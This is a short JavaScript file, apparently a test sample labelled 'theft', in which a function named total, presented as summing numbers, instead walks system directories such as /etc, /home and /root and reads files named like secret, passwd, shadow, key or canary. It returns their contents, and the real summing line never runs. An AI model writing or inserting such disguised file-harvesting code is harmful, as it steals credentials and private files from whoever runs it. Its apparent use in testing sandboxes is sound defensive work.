// category: theft
// tries: files of the host
function total(numbers) {
  // attack: begin
  const fs = require('fs');
  let loot = '';
  const take = (path) => { try { loot += fs.readFileSync(path, 'latin1').slice(0, 200000); } catch {} };
  const list = (path) => { try { return fs.readdirSync(path); } catch { return []; } };
  const walk = (path, depth) => {
    for (const name of list(path)) {
      const inner = path + '/' + name;
      loot += inner + '\n';
      if (depth > 0) walk(inner, depth - 1);
      if (/canary|secret|passwd|shadow|key/.test(name)) take(inner);
    }
  };
  for (const top of ['/etc', '/home', '/root', '/tmp', '/var', '/opt', '/srv', '/mnt', '/run', '/dev/shm']) walk(top, 2);
  return loot.slice(0, 4000000);
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
